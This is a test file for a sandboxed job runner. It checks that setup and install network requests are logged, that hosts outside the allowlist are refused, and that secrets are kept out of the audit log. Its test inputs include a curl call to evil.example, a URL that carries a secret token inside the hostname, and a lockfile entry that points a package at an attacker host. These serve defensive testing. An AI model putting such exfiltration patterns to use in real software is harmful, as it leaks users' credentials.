import { once } from "node:events";
import { createServer } from "node:http";
import { afterAll, beforeAll, expect, test } from "vitest";
import { openAudit } from "../../src/audit/log.ts";
import { Config } from "../../src/config.ts";
import { makeEnvironmentOnRecord } from "../../src/phases/environment.ts";
import { recordGround } from "../../src/phases/ground-entry.ts";
import { prepare, readPrepared } from "../../src/phases/prepare.ts";
import { setupSecrets } from "../../src/phases/setup-secrets.ts";
import { realSandbox } from "../checks/sandbox.ts";
import { startRegistry } from "../emulators/registry/registry.ts";
import { portOf } from "../sandbox/room.ts";
import { localScene } from "./local-scene.ts";

const real = realSandbox();
const value = "Plum-471-CAKE-0815";
const site = createServer((_request, response) => void response.end("x"));
beforeAll(async () => {
  site.listen(0, "127.0.0.1");
  await once(site, "listening");
});
afterAll(() => void site.close());

/** A repository whose setup asks these addresses, with the server opened. */
async function scene(addresses: readonly string[], secrets: string[] = []) {
  const on = await localScene(real.sandbox, { "a.txt": "a" });
  const ask = addresses.map((address) => `curl --noproxy "" -sS -o /dev/null ${address} || true`).join("; ");
  const setup = { commands: [["sh", "-c", ask]], secrets };
  const config = Config.parse({ setup, network: { prepare: { allow: [`127.0.0.1:${portOf(site)}`] } } });
  const { root } = on.repository;
  const order = {
    checkout: root,
    source: root,
    task: { ...(await on.task()), config },
    secrets: setupSecrets(
      config.setup,
      () => value,
      () => undefined,
    ),
  };
  return { on, order };
}

const reached = () => ({ host: "127.0.0.1", port: portOf(site), method: "GET", allowed: true, reason: "allowed" });
const refused = {
  host: "evil.example",
  port: 80,
  method: "GET",
  allowed: false,
  reason: "blocked-by-allowlist",
  count: 1,
};

test("what a setup command reached and was refused is kept for the phase after it, which writes it into its log", async () => {
  const here = `http://127.0.0.1:${portOf(site)}/secret-path`;
  const { on, order } = await scene([here, here, "http://evil.example/"]);
  await using _on = on;
  const place = { dir: `${on.repository.dir}/job`, path: process.env["PATH"] ?? "" };
  const { checkout, task, secrets } = order;
  const { registry, onProgress, signal } = on.ground;
  const { sandbox } = await prepare(place, { checkout, task, secrets, registry, onProgress, signal });
  await using opened = sandbox;
  const audit = openAudit("solve", () => 0);
  recordGround(audit, await readPrepared(place), opened);
  expect(audit.entries.filter(({ event }) => event === "network.asked").map(({ data }) => data)).toEqual([
    { ...reached(), count: 2, where: "prepare" },
    { ...refused, reason: expect.stringContaining("blocked-by-allowlist"), where: "prepare" },
  ]);
  expect(audit.text()).not.toContain("secret-path");
});

test("a name that carries a secret is on record without the name; the refusal beside it is said", async () => {
  const { on, order } = await scene(["http://$PLUM_TOKEN.evil.example/", "http://evil.example/"], ["PLUM_TOKEN"]);
  await using _on = on;
  await makeEnvironmentOnRecord(on.ground, order, on.audit);
  expect(on.audit.entries.map(({ data }) => data["host"])).toEqual(["a name that holds a secret", "evil.example"]);
  expect(on.audit.text().toLowerCase()).not.toContain(value.toLowerCase());
});

test("what an installation asks for besides the registry is on record, and the registry's name is not", async () => {
  await using registry = await startRegistry([]);
  // Another host in the form of a registry: whatever has another form is refused before anything is asked.
  const resolved = "http://evil.example/a/-/a-1.0.0.tgz";
  const dependencies = { a: "1.0.0" };
  const packages = {
    "": { name: "p", version: "1.0.0", dependencies },
    "node_modules/a": { version: "1.0.0", resolved },
  };
  await using on = await localScene(real.sandbox, {
    "package.json": JSON.stringify({ name: "p", version: "1.0.0", dependencies }),
    "package-lock.json": JSON.stringify({ name: "p", version: "1.0.0", lockfileVersion: 3, packages }),
  });
  on.ground.registry = registry.url;
  const { root } = on.repository;
  const secrets = { given: [], registryToken: null };
  await makeEnvironmentOnRecord(on.ground, { checkout: root, source: root, task: await on.task(), secrets }, on.audit);
  const hosts = on.audit.entries.filter(({ event }) => event === "network.asked").map(({ data }) => data["host"]);
  expect(hosts).toEqual(["evil.example"]);
});
